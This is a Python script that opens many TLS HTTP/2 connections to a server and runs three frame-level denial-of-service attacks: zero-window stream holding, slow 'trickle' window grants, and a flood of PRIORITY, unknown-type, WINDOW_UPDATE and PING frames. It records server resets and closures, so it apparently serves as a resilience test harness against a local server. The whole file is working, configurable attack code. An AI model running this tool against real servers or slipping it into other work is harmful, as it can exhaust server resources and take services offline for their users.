#!/usr/bin/env python3
"""HTTP/2 attacks at the frame level over TLS (standard library only, Python 3.11).

  --mode zero-window  each connection announces SETTINGS_INITIAL_WINDOW_SIZE = 0 and
                      requests --path on --streams streams, then takes nothing: the
                      server must hold no thread for them and reset them at its bound.
  --mode trickle      the same, then grants --grant bytes of window per stream every
                      --every seconds (a reader far below the minimum rate).
  --mode flood        each connection writes, as fast as it can, frames that need no
                      answer (PRIORITY, an unknown type, WINDOW_UPDATE on stream 0) and
                      PINGs whose ACKs it reads.

Keeps --conns connections for --seconds (a connection the server closes is counted and
replaced), prints a status line every 5 s, writes a JSON summary to --json. Stream
lifetimes (request sent to RST_STREAM received) go into the summary for the cut check.
"""

import argparse
import json
import socket
import ssl
import statistics
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(pairs):
    return frame(0x4, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def headers(path, authority):
    # :method GET, :scheme https (static table), :path and :authority as literals.
    block = bytes([0x82, 0x87, 0x04, len(path)]) + path.encode()
    block += bytes([0x01, len(authority)]) + authority.encode()
    return block


class Conn:
    def __init__(self, args, ctx):
        raw = socket.create_connection((args.host, args.port), timeout=10)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        if self.sock.selected_alpn_protocol() != "h2":
            raise OSError(f"ALPN chose {self.sock.selected_alpn_protocol()!r}, not h2")
        self.sock.setblocking(False)
        self.buf = b""
        self.opened = time.monotonic()
        self.streams = {}  # stream id -> time requested
        self.out = b""

    def send(self, data):
        self.out += data
        self.flush()

    def flush(self):
        while self.out:
            try:
                n = self.sock.send(self.out[:65536])
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                return
            self.out = self.out[n:]

    def read_frames(self):
        """Frames that arrived: [(kind, flags, stream, payload)]; None once closed."""
        frames = []
        while True:
            try:
                data = self.sock.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                break
            except (ConnectionError, ssl.SSLError, OSError):
                return None
            if not data:
                return None if not frames else frames + [None]
            self.buf += data
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                break
            kind, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            frames.append((kind, flags, stream, self.buf[9:9 + n]))
            self.buf = self.buf[9 + n:]
        return frames


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--cafile", required=True)
    ap.add_argument("--mode", choices=["zero-window", "trickle", "flood"], required=True)
    ap.add_argument("--conns", type=int, default=6)
    ap.add_argument("--streams", type=int, default=100)
    ap.add_argument("--path", default="/")
    ap.add_argument("--grant", type=int, default=16384)
    ap.add_argument("--every", type=float, default=10.0)
    ap.add_argument("--seconds", type=float, default=30.0)
    ap.add_argument("--json", required=True)
    args = ap.parse_args()

    ctx = ssl.create_default_context(cafile=args.cafile)
    ctx.set_alpn_protocols(["h2"])
    authority = f"localhost:{args.port}"

    flood = b""
    for i in range(1000):
        flood += frame(0x2, 0, 2 * i + 3, b"\x00\x00\x00\x00\x10")
        flood += frame(0xFA, 0, 0, b"unknown!")
        flood += frame(0x8, 0, 0, struct.pack(">I", 1))
        if i % 100 == 0:
            flood += frame(0x6, 0, 0, b"pingpong")

    stats = {"mode": args.mode, "opened_total": 0, "closed_by_server": 0, "peak_open": 0,
             "streams_opened": 0, "resets": 0, "goaways": 0, "data_bytes": 0,
             "flood_bytes": 0, "connect_errors": {}, "lifetimes_s": []}
    conns = []
    start = time.monotonic()
    end = start + args.seconds
    next_grant = start + args.every
    next_report = start + 5

    def open_one():
        try:
            c = Conn(args, ctx)
        except OSError as e:
            key = type(e).__name__
            stats["connect_errors"][key] = stats["connect_errors"].get(key, 0) + 1
            time.sleep(0.05)
            return
        stats["opened_total"] += 1
        window = 0 if args.mode != "flood" else 65535
        hello = PREFACE + settings([(0x4, window)] if args.mode != "flood" else [])
        if args.mode != "flood":
            now = time.monotonic()
            for i in range(args.streams):
                sid = 2 * i + 1
                hello += frame(0x1, 0x5, sid, headers(args.path, authority))
                c.streams[sid] = now
            stats["streams_opened"] += args.streams
        c.send(hello)
        conns.append(c)

    while time.monotonic() < end:
        while len(conns) < args.conns and time.monotonic() < end:
            open_one()
        stats["peak_open"] = max(stats["peak_open"], len(conns))
        now = time.monotonic()
        grant = args.mode == "trickle" and now >= next_grant
        if grant:
            next_grant += args.every
        for c in list(conns):
            frames = c.read_frames()
            closed = frames is None or (frames and frames[-1] is None)
            for f in frames or []:
                if f is None:
                    continue
                kind, flags, stream, payload = f
                if kind == 0x0:
                    stats["data_bytes"] += len(payload)
                elif kind == 0x3 and stream in c.streams:
                    stats["resets"] += 1
                    stats["lifetimes_s"].append(round(time.monotonic() - c.streams.pop(stream), 2))
                elif kind == 0x7:
                    stats["goaways"] += 1
                elif kind == 0x4 and not flags & 1:
                    c.send(frame(0x4, 0x1, 0))
            if closed:
                stats["closed_by_server"] += 1
                c.sock.close()
                conns.remove(c)
                continue
            if grant and c.streams:
                # The connection's window too, or it (64 KiB) runs out before the streams'.
                c.send(frame(0x8, 0, 0, struct.pack(">I", args.grant * len(c.streams))))
                for sid in c.streams:
                    c.send(frame(0x8, 0, sid, struct.pack(">I", args.grant)))
            if args.mode == "flood" and not c.out:
                c.send(flood)
                stats["flood_bytes"] += len(flood)
            c.flush()
        if now >= next_report:
            next_report += 5
            print(f"{now - start:.0f} s: {len(conns)} open, {stats['resets']} streams reset, "
                  f"{stats['closed_by_server']} closed by server, "
                  f"{stats['flood_bytes'] >> 20} MiB flooded", flush=True)
        if args.mode != "flood":
            time.sleep(0.05)
    for c in conns:
        c.sock.close()
    life = stats["lifetimes_s"]
    if life:
        stats["lifetime_median_s"] = statistics.median(life)
    print(f"done: {json.dumps({k: v for k, v in stats.items() if k != 'lifetimes_s'})}", flush=True)
    with open(args.json, "w") as f:
        json.dump(stats, f)
    return 0


if __name__ == "__main__":
    sys.exit(main())
